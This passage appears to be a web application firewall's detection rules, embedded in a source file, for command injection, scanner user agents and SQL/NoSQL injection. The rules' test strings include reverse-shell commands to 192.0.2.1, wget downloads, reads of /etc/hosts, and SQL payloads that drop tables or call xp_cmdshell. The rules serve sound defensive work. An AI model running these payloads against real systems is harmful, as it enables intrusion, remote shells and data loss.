              windows: 'attrib|bitsadmin|bcdedit|cacls|certutil|cmd(?:\.exe|\.com)?|cscript|del|dir|driverquery|erase|fsutil|gpresult|icacls|ipconfig|mshta|msiexec|nbtstat|net\s+(?:user|view|localgroup|group|start|stop|use|share|accounts)|netsh|nslookup|pathping|ping(?:\.exe)?|powershell(?:\.exe)?|pwsh|query\s+user|reg\s+(?:add|query|delete|save)|regsvr32|rundll32|schtasks|sc\s+(?:query|config|create)|systeminfo|takeown|taskkill|tasklist|tracert|type|typeperf|vssadmin|wevtutil|whoami|wmic|wscript|xcopy|start|copy|move|ren|echo|set|ver|vol|tree|route|arp|hostname|net1?|pushd|popd|rd|md'
            rules:
              - id: rce-separator-command
                reason: A separator of shells ends the program's own command and a known command begins.
                view: shell
                parts: [path, name, parameter, cookie, body, header]
                literals: [";", "|", "&", "`", "\n", "$(", "<(", ">("]
                pattern: '(?:[;|&`\n]|\$\(|[<>]\()[\s({]*(?:[\w.]+=\S*\s+)*(?:[\w./~-]*/)?(?:{{unixonly}}|{{windowsonly}})(?:$|[\s;|&`)<>},$+#]|/[a-z])'
                positive: ["a;whoami", "|/usr/bin/uname|", "`ifconfig`", "x|wget x", "& ipconfig /all &", "$(wh''oami)", ";un\\ame x", "a)|whoami;"]
                negative: ["rock & roll", "tops; shoes", "a|b", "salt & pepper cat", "size=m;colour=red", "dog & cat", "cut; sew", "more | less", "Sale &amp; more", "passport & id", "line one%0Afind me", "<p>50% off &amp; more</p>"]
              - id: rce-separator-word
                reason: A separator of shells and a command that is a word as well, with what only a command has behind it - an option, a path, a variable, a number to wait for - or with nothing before the separator, or in a substitution.
                view: shell
                parts: [path, name, parameter, cookie, body, header]
                literals: [";", "|", "&", "`", "\n", "$(", "<(", ">("]
                pattern: '(?:[;|&`\n]|\$\(|[<>]\()[\s({]*(?:[\w.]+=\S*\s+)*(?:(?:[\w.~-]*/)+(?:{{wordy}})(?:$|[\s;|&`)<>},$+#])|(?:{{wordy}})(?:\s*<\s*(?:/?[\w.-]+/[\w.]|[\w-]+\.\w)|\s+-{1,2}[a-z]|[\s+]+(?:\.{0,2}/[\w?*.\[]|~/|[a-z]:[\\/]|/[a-z]\b)|\s*\$[\w({]|\s+%\w+%|,/)|(?:sleep|kill|timeout|nice)[\s+]+\d+\s*(?:$|[;|&`)#\n])|(?:ping6?|curl|dig|host|traceroute6?)[\s+]+(?:-\w+\s+\S+\s+)*(?:\d{1,3}(?:\.\d{1,3}){3}|localhost|https?:|[\w-]+(?:\.[\w-]+)*\.[a-z]{2,}(?:$|[\s/;|&`)])))|(?:`|\$\(|[<>]\()\s*(?:{{wordy}})\s*[`)]|^\s*[;|`]+\s*(?:{{wordy}})\s*(?:$|[;|&`#])|^\s*(?:&&|\|\||;|\||&)(?:{{wordy}})(?:$|[\s;|&`#])|(?:^|[\d"''`)])\s*[;|&`]+\s*(?:{{short}}|echo|cat|sleep|ping|dir|type)(?:\s*$|\s*[;|&`)#]|\s+[-/.~$%"''\d])|(?:&&|\|\||[^\s&|;][;|]|[^\s&]&&?)(?:{{short}})\s*(?:$|[;|&`)#])|(?:^|[\d"''`)])\s*[;|&`]+\s*echo\s|[;|&`\n]echo\s+\S|&\s*(?:{{short}})\s*&\s*$|^\s*\n+\s*(?:{{short}}|{{unixonly}})\s*(?:$|\n)'
                positive: ["a;id", "1; cat /etc/issue", "|env", "; ls", "x|cat<a.txt", "127.0.0.1 & ping -n 4 192.0.2.1", "`id`", "$(ls)", "1 & sleep 10 &", "x;/bin/cat", "a.txt;echo hello"]
                negative: ["dog & cat", "tents; head lamps", "red | blue | more", "perl; python; ruby", "wallet & id", "cats; dogs", "strings; set of 6", "one%0Afind the other", "less & more", "touch & go", "ping & pong", "echo & the bunnymen", "set; tank top", "R&D; test", "black & white; type b", "kill & bury 2 of 3"]
              - id: rce-agent
                reason: A user agent or a referer that is a command itself, for whatever hands it to a shell.
                view: shell
                parts: [user-agent, referer]
                literals: [";", "|", "&", "cat ", "dd if=", "/bin/", "wget ", "curl "]
                pattern: '^\s*[;|&]+\s*(?:{{unix}})(?:$|[\s;|&])|^\s*(?:cat\s+/|dd\s+if=|(?:/usr)?/bin/\w|(?:wget|curl)\s+(?:-\w+\s+)*https?:)|[;|]\s*(?:/?(?:usr/)?bin/\S+|cat|wget|curl)[\s+]+\S*/'
                positive: [";env", "cat /etc/hosts", "| id"]
                negative: ["Mozilla/5.0 (X11; U; id; rv:1.9)", "curl/8.1", "Wget/1.21"]
              - id: rce-command-separator
                reason: A known command stands at the start and a separator behind it goes on with another.
                view: shell
                literals: [";", "|", "&", "`"]
                pattern: '^\s*(?:[\w./-]*/)?(?:id|ls|ps|whoami|uname|pwd|ifconfig|netstat|ipconfig|nslookup)(?:\s[^;|&]{0,80})?\s*(?:;|\|\|?|&&?)\s*(?:$|[;|&]|["''/]|(?:{{unix}})\b)|^\s*(?:whoami|uname|ifconfig|ipconfig|nslookup)\s*[;|&`]'
                positive: ["id;", "ls | wc", "id|", "id&", "whoami;0"]
                negative: ["cat; dog", "set;", "date|x", "id;5", "id; card"]
              - id: rce-binary-path
                reason: A program is named by its path in a system folder.
                view: shell
                literals: ["bin/", "sbin/"]
                pattern: '(?:^|[^a-z0-9])/?(?:usr/(?:local/)?)?s?bin/(?:{{unix}}|ansible\w*|aptitude|chef|cscli|visudo|vipw|chpasswd|mkpasswd|terraform|kubectl|[a-z*?]{0,3}[*?\[][\w*?\[\]-]*)(?:$|[^\w/-])'
                positive: ["/bin/cat", "usr/bin/id", "bin/visudo", "/usr/local/bin/python3 -c", "/bin/c?t /etc/hosts"]
                negative: ["recycling bin/box", "/cabin/", "bin/other"]
                parts: [path, name, parameter, cookie, body, header, user-agent, referer]
              - id: rce-unix-command
                reason: A command of Unix with arguments that only it has - options, a path, a URL, an address.
                view: shell
                words: ["cat", "ls", "wget", "curl", "ping", "ping6", "nc", "ncat", "netcat", "bash", "sh", "perl", "python", "python3", "python2", "ruby", "php", "nmap", "telnet", "ssh", "scp", "chmod", "chown", "rm", "mkdir", "touch", "tail", "head", "grep", "find", "uname", "ifconfig", "nslookup", "dig", "whoami", "sleep", "echo", "base64", "awk", "sed", "tar", "kill", "mkfifo", "socat", "ps", "netstat", "lwp-request", "busybox", "node", "env", "sudo", "less", "more", "xxd", "openssl", "tcpdump", "printf", "systemctl", "crontab", "mysql", "mysqldump", "gcc", "git", "docker", "zsh", "ksh", "lua", "xargs", "tee", "sysctl", "strace"]
                pattern: '(?:^|[\s;|&`({=/])(?:(?:cat|tail|head|less|more|tac|nl|od|xxd|base64|strings|rm|touch|mkdir|grep|find|ls|chmod|chown|tee|vim?|nano|cp|mv|tar|source|stat|file)\s+(?:-[\w-]+\s+|[''"^\w.*/+-]+\s+)*(?:\.{0,2}/|~/|\$\w|>)[\w.*?/-]*|(?:wget|curl|lwp-\w+|fetch)\s+(?:-[\w-]+\s+\S*\s*)*(?:(?:https?|ftp|file|dict|gopher)://|-|[\w-]+\.[\w.-]+/)|ping6?\s+(?:-[a-z]\s*\d*\s+)*(?:\d{1,3}(?:\.\d{1,3}){3}|[\w-]+(?:\.[\w-]+)+|localhost|::1)|(?:nc|ncat|netcat|telnet|socat|ssh|scp|nmap|nslookup|dig)\s+(?:-\w+\s+)*(?:\d{1,3}(?:\.\d{1,3}){3}|[\w.-]+\.[a-z]{2,}|-[a-z]+|localhost)|(?:ba|da|z|k|tc|c|r?ba)?sh\s+-[a-z]|(?:perl|python[\d.]*|ruby|php|node|lua)\d?\s+-[a-z]+\b|(?:python[\d.]*|perl|ruby|bash|sh)\s+\S+\.(?:py|pl|rb|sh)\b|(?:uname|ps|netstat|ifconfig|whoami|ls|id|df|du|who|kill|lsof|ss)\s+-[a-z]|ps\s+aux|sudo\s+(?:-\w|su\b|bash|sh|cat|rm|chmod)|echo\s+\S.{0,200}?[|>]{1,2}\s*\S|(?:mkfifo|mknod)\s+/|git\s+(?:clone|config|log)\s|mysql(?:dump)?\s+-[uhpe]|base64\s+(?:-d|--decode)|busybox\s+[\w-]|crontab\s+-|chmod\s+[+\d]|systemctl\s+\w+\s+\w|docker\s+(?:run|exec|ps)|gcc\s+-)'
                positive: ["cat /etc/hosts", "ping -i 30 127.0.0.1", "wget http://192.0.2.1/x", "bash -i", "uname -a", "curl -s https://x.example/a", "python3 -c 'import os'", "nc -e /bin/sh 192.0.2.1 4444"]
                negative: ["cat litter", "ping pong table", "find a gift", "touch screen gloves", "head - and tail", "more -", "bash"]
              - id: rce-windows-command
                reason: A command of Windows with the switches or paths that only it has.
                words: ["cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh", "dir", "ping.exe", "wmic", "certutil", "net", "netsh", "reg", "type", "rundll32", "regsvr32", "mshta", "bitsadmin", "schtasks", "tasklist", "taskkill", "systeminfo", "ipconfig", "cscript", "wscript", "sc", "del", "copy", "invoke-webrequest", "invoke-expression", "iwr", "iex", "get-childitem", "start-process", "new-object", "set-executionpolicy", "get-content", "invoke-command", "invoke-restmethod", "downloadstring", "get-process", "invoke-mimikatz", "findstr", "attrib", "icacls"]
                pattern: '(?:^|[\s;|&`({=/\\+"])(?:cmd(?:\.exe|\.com)?[\s,;+]*/[a-z]|(?:powershell|pwsh)(?:\.exe)?[\s+]+-\w|dir[\s+,;]*(?:/[a-z]\b|[a-z]:|\\|%\w+%)|ping\.exe[\s+]|wmic\s+\w+\s+\w|certutil(?:\.exe)?\s+-|net1?\s+(?:user|view|localgroup|group|start|stop|use|share|accounts)\s*(?:$|[;|&>/\\]|\S+\s*(?:$|[;|&>/])|\S+\s+\S+\s+/)|netsh\s+\w+\s+\w|reg(?:\.exe)?\s+(?:add|query|delete|save)\b|type\s+(?:[a-z]:\\|%\w+%|\\\\)|rundll32(?:\.exe)?\s|regsvr32\s+/|mshta\s+\S|bitsadmin\s+/|schtasks\s+/|task(?:list|kill)\s+/|ipconfig\s+/|[cw]script\s+\S+\.(?:vbs|js)|(?:del|copy|move)\s+(?:/\w\s+)*[a-z]:\\|(?:invoke|get|set|new|start|remove|import|out|add|convertto|test)-(?:webrequest|expression|childitem|process|object|executionpolicy|content|command|restmethod|item|module|wmiobject|service|mimikatz|aduser|netfirewall\w*|file|string|location|psdrive|ciminstance|scheduledtask|connection)\b|\biwr\s+\S|\biex\s*\(|downloadstring\s*\(|findstr\s+/|attrib\s+[+-]|icacls\s+\S+\s+/)'
                positive: ["cmd /c whoami", "dir c:", "+dir+c:+", "ping.exe -n 31 127.0.0.1", "powershell -enc AAAA", "net user admin", "Invoke-WebRequest http://x"]
                negative: ["net curtain", "net user manual for beginners", "reg plate", "type 2 diabetes", "del mar", "copy paper"]
              - id: rce-windows-loop
                reason: The for and if commands of the Windows command interpreter with their own operands.
                words: ["for", "if"]
                pattern: '(?:^|[\s;|&(=])(?:for(?:\s+/[dflr]\b)*(?:\s+[^\s(]+)?(?:\s+"[^"]*")?.{0,40}?\s%+\S*\s+in\s*\(.*\)\s*do\b|if(?:\s+|/i\s+)(?:/i\s+)?(?:not\s+)?(?:exist\s+\S+\s+\S|defined\s+\w+\s+\S|errorlevel\s+\d+\s+\S|cmdextversion\s+\d|[^\s=(]{1,60}={2,3}\S{1,60}(?:\s+\S|$)|[("%\w\[\]~.!:)-]{1,60}\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S))'
                positive: ["for %a in (set) do abc", "if exist c:\\pagefile.sys cmd", "if /i not 1==2 cmd", "if 2 geq 15 echo bigger", "for /f \"delims=\" %g in ('set') do x"]
                negative: ["if (a == b) return c;", "if x == 5 then y", "for women in (red)", "if not in stock", "what if all else fails call"]
              - id: rce-windows-if
                reason: The Windows command interpreter's if with a variable of its own, or between brackets with a command behind it.
                view: text
                words: ["if"]
                pattern: '(?:^|[\s;|&(=])if\s+(?:/i\s+)?(?:not\s+)?(?:(?:"[^"=]{0,40}(?:%~?\w{1,30}%?|!\w{1,30}!)[^"=]{0,20}"|\((?:%~?\w{1,30}%?|!\w{1,30}!)\)|\[(?:%~?\w{1,30}%?|!\w{1,30}!)\]|\{(?:%~?\w{1,30}%?|!\w{1,30}!)\}|%~?\w{1,30}%?|!\w{1,30}!)\s*==\s*\S|(?:"[^"=]{0,40}"|\([^)=]{1,40}\)|\[[^\]=]{0,40}\])\s*==\s*(?:"[^"=]{0,40}"|\([^)=]{1,40}\)|\[[^\]=]{0,40}\])\s+@?(?:echo|cd|exit|goto|call|set|del|copy|move|start|cmd|type|md|rd|ren)\b)'
                positive: ["if \"%1\" == \"\" (", "if not {%1} == {}", "if (%1)==(a) cd c:\\x", "if [a] == [a] echo same", "if \"!x!\" == \"y\" @echo ok"]
                negative: ["if (a%2 == 0) return", "if [ \"$a\" == \"b\" ]; then", "if \"a\" == b: pass", "if 5 % of it == mine"]
              - id: rce-empty-quotes
                reason: Letters with empty quotes between them, which a shell drops and a filter does not.
                view: text
                literals: ["\"\"", "''"]
                parts: [path, name, parameter, cookie, body, header]
                pattern: '(?:^|[^a-z0-9"''])(?:[a-z0-9./_-]{1,2}(?:""|''''){1,2}){3,}|(?:""|''''){1,2}(?:[a-z0-9./_-](?:""|''''){1,2}){3,}'
                positive: ["w''h''o''ami", "\"\"p\"\"\"\"y\"\"\"\"t\"\"\"\"h\"\"on"]
                negative: ["o''neill", "19\"\" rack", "''a''", "5'' x 6'' x 7''", "d''or"]
              - id: rce-ruby-sleep
                reason: A pause in Ruby, by which a blind injection is told from none.
                literals: [".to_i)", ".to_f)"]
                parts: [path, name, parameter, cookie, body, header]
                pattern: '\bsleep\s*\(?\s*\d+\.to_[if]\)'
                positive: ["'+sleep(20.to_i)+'"]
                negative: ["price.to_i)"]
              - id: rce-expansion
                reason: Expansions that only a shell makes - command substitution, process substitution, braces with commands, arithmetic.
                literals: ["$(", "`", "<(", ">(", "${", "$((", "{cat", ";{", "|{", "&{", "$'\\"]
                pattern: '\$\((?:\(.{1,200}\)|[^()]{0,200}[a-z/<][^()]{0,200})\)|<\(\s*[a-z/]+|>\(\s*[a-z/]+|^\s*["'']?`[^`]{2,200}`["'']?\s*$|[;|&=]\s*`[^`]{2,200}`|\$\{(?:ifs|path|home|shell|ld_preload|bash|hostname|user|@|#|!)[^}]{0,40}\}|\{[a-z/.]+,[^}]{1,80}\}(?:$|\s*[;|&])'
                positive: ["$(id)", "`true`", "\"`false`\"", "cat<(id)", "{cat,/etc/hosts}", "a${IFS}b"]
                negative: ["$(", "$(5)", "price in $ (5)", "`", "${name}"]
                parts: [path, name, parameter, cookie, body, header, user-agent, referer]
              - id: rce-brace-expansion
                reason: Braces with an empty part, or within a word, are put together by a shell and by nothing else in a value.
                literals: ["{"]
                pattern: '\{\s*,[^{}]+\}|\{[\w/?*"$.#-]+,\s*\}|(?:^|[\s;|&=/])\w*\{[a-z-]+,[a-z-]+\}\w+'
                parts: [parameter, body, cookie]
                positive: ["{,ifconfig,eth0}", "c{a,oun}t", "{l,-lh}s"]
                negative: ["{\"a\":1,\"b\":2}", "{red, blue}", "size {s,m,l}"]
              - id: rce-shellshock
                reason: A function definition in a variable, with which old versions of bash run what follows.
                literals: ["() {", "(){", "() \t{", "( ) {"]
                parts: [path, name, parameter, cookie, body, header, user-agent, referer, host, method]
                pattern: '^\s*\(\s*\)\s*\{'
                positive: ["() { :;}; /bin/cat /etc/hosts", "() { _; } >_[$($())] { id; }"]
                negative: ["f() { x }", "( ) smile"]
              - id: rce-shell-boolean
                reason: Nothing but a shell's true or false in quotes - probes that compare the two answers.
                literals: ["true", "false"]
                parts: [parameter, body, cookie]
                pattern: '^[''"`]+\s*(?:true|false)\s*[''"`]+$'
                positive: ["'true'", "\"`false`\""]
                negative: ["true", "false", "true crime"]
              - id: rce-redirection
                reason: Output is redirected into a file, a device or another descriptor.
                literals: [">/", "> /", ">&", "2>", "</dev", ">%", "<&"]
                pattern: '(?:[\w)"''`]|^)\s*(?:\d?>{1,2}\s*(?:&\s*\d|/(?:tmp|dev|var|etc|home|root|usr|opt)/)|<\s*/dev/|&>\s*/|\d<&)'
                positive: ["x > /tmp/a", "2>&1", "bash -i >& /dev/tcp/192.0.2.1/80 0>&1", ">/tmp/curl"]
                negative: ["a > b", "2> 1"]
              - id: rce-environment
                reason: Variables and files of a shell's environment that programs are run through.
                literals: ["ld_preload", "ld_library_path", "$path", "$shell", "$home", "$env:", "%comspec%", "%windir%", "%systemroot%", "%programfiles", "${hostname}", "$hostname", "$bash", "prompt_command", "$user", "$ps1", "$oldpwd", "%userprofile%", "%appdata%"]
                pattern: 'ld_(?:preload|library_path)\s*=|\$(?:path|shell|home|hostname|bash\w*|user|ps1|oldpwd|pwd)\b(?:[\s:/\[;|}]|$)|\$\{(?:path|shell|home|hostname)\b|\$env:\w|%(?:comspec|windir|systemroot|programfiles\w*|userprofile|appdata)%|prompt_command='
                positive: ["LD_PRELOAD=/tmp/x.so", "$SHELL -c x", "%COMSPEC%"]
                negative: ["path", "home $5", "$userx"]
              - id: rce-glob
                reason: A path with wild cards in its names, as they stand in for the letters of a blocked command.
                view: text
                literals: ["/b?n/", "/???/", "/bi?/", "/?in/", "/b*/", "/etc/p", "/u?r/", "/us?/", "/e?c", "/et?/", "/e*/", "/b[", "/?etc", "/*/"]
                pattern: '/(?:[a-z]*[?*\[\]][\w?*\[\]-]*)/+[\w?*\[\]-]*[?*\[\]a-z]|/etc/(?:[a-z]*[?*]|p[\w]*[\[{])'
                positive: ["/???/c?t /???/p??s??", "/etc/pa*", "/b[i]n/ls"]
                negative: ["/*/", "what?/why?"]
                parts: [name, parameter, cookie, body]
              - id: rce-unix-bare
                reason: The whole value is a command that asks a machine who and where it is.
                level: 2
                words: ["id", "whoami", "uname", "ifconfig", "ipconfig", "netstat", "systeminfo", "hostname", "pwd", "ls", "dir"]
                pattern: '^\s*(?:id|whoami|uname|ifconfig|ipconfig|netstat|systeminfo|hostname|pwd|ls|dir)\s*$'
                parts: [parameter, body]
                positive: ["id", "whoami", "netstat"]
                negative: ["idea", "who am i", "hostnames"]
              - id: rce-ldap
                reason: Parentheses and operators of LDAP filters close the program's filter and open another.
                literals: [")(", ")|(", ")&(", "*)", ") (", ")%26(", "(|(", "(&(", "(!(", "*()"]
                pattern: '\(\s*[|&!]\s*\(\s*[\w-]+\s*[~<>]?=|\*\)\)\x00|\*\(\)[|&]|\*\)\(+\s*[|&]|\)\s*\(?\s*(?:\||&|!)\s*(?:\(|$)|\)\s*\([\w-]+\s*(?:[~<>:]?=)|\)[|&]\(\w+=|\)\s*\(\s*[|&]'
                positive: ["admin)(|", "*(|(mail=*))", "(&(uid=a)(x=y))", "*()|&x", "value)(gidNumber<=100", "x)(uid=*))(|(uid=*"]
                negative: ["(a)(b)", "size (m)(l)"]
              - id: rce-mail
                reason: Commands of mail protocols behind a line break - a form's mail is turned into the attacker's.
                literals: ["\nrcpt", "\nmail", "\ndata", "\nehlo", "\nhelo", "\nbcc", "\ncc:", "\nto:", "\nuser ", "\npass ", "\nlist", "\nretr", "\nfetch", "\nselect", "\nauth", "\nstarttls", "\nexpn", "\nvrfy", "\nnoop", "\nrset", "\nturn", "\nquit", "\nexamine", "\nappend", "\nstatus", "\ndele", "\nstat", "\ntop", "\ncontent-type", "\nhelp", "\napop", "\nuidl"]
                pattern: '\n\s*(?:\w{1,10}\s+)?(?:rcpt to|mail from|data\n|ehlo|apop\s+\S+\s+[0-9a-f]{16,}|help\s+\w+\s*$|uidl\b|helo|bcc:|cc:|to:|user\s|pass\s|list\b|retr\s\d|fetch\s|select\s|auth\s|starttls|expn\s|vrfy\s|noop|rset|turn|quit|examine\s|append\s|status\s|dele\s\d|stat\n|top\s\d|content-type:)|^\s*\n\s*data\s*$'
                positive: ["x%0d%0aRCPT TO:<a@b.example>", "%0d%0aDATA", "x%0d%0aAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891", "a%0aBcc: x@y.example"]
                negative: ["to: me", "list one", "your data", "line%0d%0ahelp is on its way"]
            """#
        ),
        (
            "alerts/waf/scanner.yaml",
            #"""
            # Tools that say who they are.
            family: scanner
            rules:
              - id: scanner-user-agent
                reason: A security scanner or exploitation tool names itself in the user agent.
                literals: ["nikto", "sqlmap", "nmap", "masscan", "wpscan", "dirbuster", "gobuster", "nuclei", "zgrab", "acunetix", "nessus", "openvas", "feroxbuster", "ffuf", "dirsearch", "arachni", "w3af", "havij", "whatweb", "joomscan", "commix", "xsser", "netsparker", "appscan", "webinspect", "burp", "zaproxy", "owasp zap", "skipfish", "vega/", "fimap", "jaeles", "wfuzz", "hydra", "metasploit", "brutus", "grendel", "paros", "pangolin", "n-stealth", "webshag", "absinthe", "bsqlbf", "sqlninja", "morfeus", "zmeu", "jorgee", "l9explore", "l9tcpid", "leakix", "cyberscan", "fhscan", "nessusd", "nikto", "detectify", "qualys", "tplmap", "kiterunner", "katana", "httpx -", "naabu", "gospider", "hakrawler", "xray", "goby", "pentest", "securityscan", "vulnscan", "webbandit", "core-project", "internet measurement", "expanse", "censysinspect", "projectdiscovery", "wapiti", "whatwaf", "wafw00f", "dirb", "springenwerk", "muieblackcat", "revolt", "secscan", "toata dragostea", "sysscan", "python-nmap", "cgichk", "mysqloit", "safexplorer tl", "struts-pwn", "sqlsus", "webvulnscan", "ywolf", "advanced email extractor", "bilbo", "datacha0s", "inspath", "hidebot", "blackwidow", "pmafind", "uil2pn", "teh forest lobster", "this is an exploit", "uber c99", "floodgate", "get-minimal", "gootkit", "autogetcontent", "prog.customcrawler", "amiga-aweb", "domino-hammer", "jbrofuzz"]
                parts: [user-agent]
                positive: ["sqlmap/1.7#stable", "Mozilla/5.00 (Nikto/2.1.6)", "Nuclei - Open-source project"]
                negative: ["Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0", "Googlebot/2.1"]
              - id: scanner-path
                reason: A scanner's own test file or mark in the request.
                literals: ["nikto-test", "acunetix", "netsparker", "appscan_fingerprint", "w3af", "nessus", "wp-content/plugins/pwnscan", "cgi-bin/awstats", "/appscan", "/arachni-", "/skipfish", "thisdoesnotexistahaha", "/openvas", "/burpsuite", "/sqlmap", "/nmaplowercheck", "nmap/folder", "/rfi-inc", "whoami-test", "/hnap1", "xss-test", "/.well-known/pki-validation/xmrlpc"]
                parts: [path, name, parameter, referer, host]
                pattern: 'nikto-test|acunetix(?:[-_]wvs|\.com|_)|netsparker|appscan_fingerprint|\bw3af\b|nessus(?:_|\d|/)|arachni-|skipfish|thisdoesnotexistahaha|/openvas|/nmaplowercheck|/nmap/folder|/hnap1'
                positive: ["/nmaplowercheck1700000000", "/acunetix-wvs-test-for-some-inexistent-file"]
                negative: ["nessus", "/arachnid"]
            """#
        ),
        (
            "alerts/waf/sqli.yaml",
            #"""
            # SQL injection. Most of it is read by a tokenizer (`structure: sql.…`), which looks for SQL's own order of words, not for words.
            family: sqli
            rules:
              - id: sqli-union-select
                reason: A second query is joined to the statement; its list of columns tells it from a sentence with these words.
                structure: sql.union-select
                parts: [path, name, parameter, cookie, body, header, user-agent, referer]
                positive: ["1 union select null,null--", "-1' UnIoN/**/aLL SeLeCt 1,2,3#", "1%20union%20select%20password%20from%20users"]
                negative: ["western union select committee", "select union jacket", "O' UNION selected a few friends"]
              - id: sqli-tautology
                reason: Two literals are compared behind a logical operator, which is true or false whatever the data.
                structure: sql.tautology
                parts: [path, name, parameter, cookie, body, header, user-agent, referer]
                positive: ["1 or 1=1", "x' and 'a'='a", "1) AND 7533=7533 AND (1=1", "\") or (\"a\"=\"a"]
                negative: ["2 or 4 metal buttons", "1 and 1/2 inch", "salt and pepper", "black or white"]
              - id: sqli-condition
                reason: A condition with literals, calls or columns goes on behind a closed quote or a number.
                structure: sql.condition
                parts: [path, name, parameter, cookie, body, header, user-agent, referer]
                positive: ["' or userid=1 --", "1 and sleep(3)=0", "' or 1 --", "1) and 5=(select count(*) from t)"]
                negative: ["jack-o'-lantern", "tops and size 40", "rock 'n' roll"]
              - id: sqli-stacked-statement
                reason: A second statement begins behind a semicolon.
                structure: sql.stacked-statement
                parts: [path, name, parameter, cookie, body, header, user-agent, referer]
                positive: ["1; drop table users--", "1');declare @q varchar(99);--", "1;waitfor delay '0:0:5'--", "x';insert into admin_user values(1)"]
                negative: ["1; exec will create the case 7", "foo; bar 1+2+3", "hats; scarves"]
              - id: sqli-statement
                reason: A statement with what its grammar requires stands where a value belongs.
                structure: sql.statement
                parts: [path, name, parameter, cookie, body, header, user-agent, referer]
                positive: ["'; shutdown --", "drop table admin_user", "' insert into users values('a')", "exec xp_cmdshell('dir')"]
                negative: ["drop earrings", "create a critter", "update facebook link", "insert coin"]
              - id: sqli-subquery
                reason: A query in parentheses, or a case expression, stands within the value.
                structure: sql.subquery
                positive: ["1+(select count(*) from users)", "(select case when (1=1) then 1 else 0 end)", "1,(select 5 from dual)"]
                negative: ["shoes (select size)", "(case 4) iphone"]
              - id: sqli-query
                reason: A query with a list of literals or calls, or a list of columns that a clause follows.
                structure: sql.query
                positive: ["select 1,2,3", "select * from users", "' select version() --", "select name,password from users where id=1"]
                negative: ["please select pair #1", "select shirts from our range", "select 3 for 2"]
              - id: sqli-weapon
                reason: A function that only serves to wait, to read files, to run programs or to speak through error messages is called.
                structure: sql.weapon
                parts: [path, name, parameter, cookie, body, header, user-agent, referer]
                positive: ["1 and sleep(5)", "extractvalue(1,concat(0x5c,1))", "1 into outfile '/tmp/x'", "pg_sleep(5)", "dbms_pipe.receive_message('a',5)"]
                negative: ["sleep (eight hours) mask", "benchmark (gold)", "1alert(1)", "baby sleep bag"]
              - id: sqli-functions
                reason: Functions of SQL are called within each other, compared, or joined, or a system variable is read.
                structure: sql.functions
                positive: ["ascii(substring(version(),1,1))", "1' and char(65)||char(66)='ab", "1-@@version", "length(user())>5 --"]
                negative: ["left (top) right (bottom)", "user(foo),junk", "count (12) beads"]
              - id: sqli-catalogue
                reason: A database's own catalogue is named, which no shop's form asks for.
                structure: sql.catalogue
                parts: [path, name, parameter, cookie, body, header, user-agent, referer]
                positive: ["table_name from information_schema.tables", "select a from sysibm.systables"]
                negative: ["information schema design", "from all tables"]
              - id: sqli-comment-cut
                reason: A quote is closed and a comment cuts off the rest of the statement.
                structure: sql.comment-cut
                positive: ["admin'--", "x') #", "admin\"/*"]
                negative: ["'1--'", "bamboo soap 1 '#", "boys' --infant"]
              - id: sqli-clause
                reason: A clause of the statement goes on behind the value - where, having, order by a number, procedure analyse.
                structure: sql.clause
                positive: ["1' order by 10#", "1) where 2390=2390 --", "1 having 1=1", "' group by id having 1=1 --", "1 procedure analyse()"]
                negative: ["1 i like having true friends", "1 having", "cards where 4 fit", "order by phone"]
              - id: sqli-quote-operator
                reason: An operator behind a closed single quote joins another string, variable or query, which lets a database compute it.
                structure: sql.quote-operator
                positive: ["a' * 'b", "'||'", "1'+(select 'x')+'", "'<=>'", "x' and '"]
                negative: ["\"alaska\" + 1978", "backdrop -3' -4' -digital", "3'-4' curtain"]
                severity: critical
              - id: sqli-expression
                reason: An expression in parentheses, with variables, strings or functions of SQL, is closed by a comment.
                structure: sql.expression
                positive: ["( ( @a * 'b') ) --", "(cos(cos('b'))) --"]
                negative: ["(junk)", "(antique, vintage) quilt"]
              - id: sqli-operators-in-json
                reason: Operators of document databases in a parameter turn a comparison into a condition of the attacker's.
                literals: ["[$", "$ne", "$gt", "$where", "$regex", "{\"$"]
                parts: [name, parameter, body, cookie]
                pattern: '(?:\[|["'']|\{\s*)\$(?:ne|eq|gte?|lte?|n?in|regex|where|exists|or|and|nor|not|expr|function|mod|all|size|type|jsonschema|slice|elemmatch)["''\]:\s]'
                positive: ["[$ne]", "{\"$gt\":\"\"}", "user[$regex]"]
                negative: ["[$5] voucher", "price $gt"]
              - id: sqli-document-query
                reason: Operators, collections or code of a document database stand in a value, which then is part of the query.
                literals: ["$where", "$or", "$and", "$nor", "$regex", "return true", "return 1", "this.", "db."]
                parts: [name, parameter, body, cookie]
                pattern: '(?:^|[\s,{;"''])\$(?:where|or|and|nor|regex)["'']?\s*:\s*[\[''"{/]|[''"]\s*;\s*return\s+(?:true|1|[''"])|\bthis\.\w+\.(?:match|test|length|substr\w*|charat)\b\s*(?:\(|[=<>!])|\bdb\.\w+\.(?:find|insert|remove|drop|update|aggregate|mapreduce|count|save)\w*\s*\('
                positive: ["true, $where: '1 == 1'", "', $or: [ {}, { 'a':'a", "this.password.match(/.*/)", "'; return true; var x='", "db.users.find({})"]
                negative: ["$or: 5", "return true love", "this.is.my.shop", "db.example", "price: $and"]
              - id: sqli-account-statement
                reason: A statement that changes tables, accounts or rights, or reads the columns in which passwords stand.
                literals: ["alter table", "grant ", "create user", "create login", "handler ", "select ", " or ", "or ", "and ", "order by", "into @", "set global", "user_name", "database"]
                parts: [path, name, parameter, body, cookie]
                view: sql
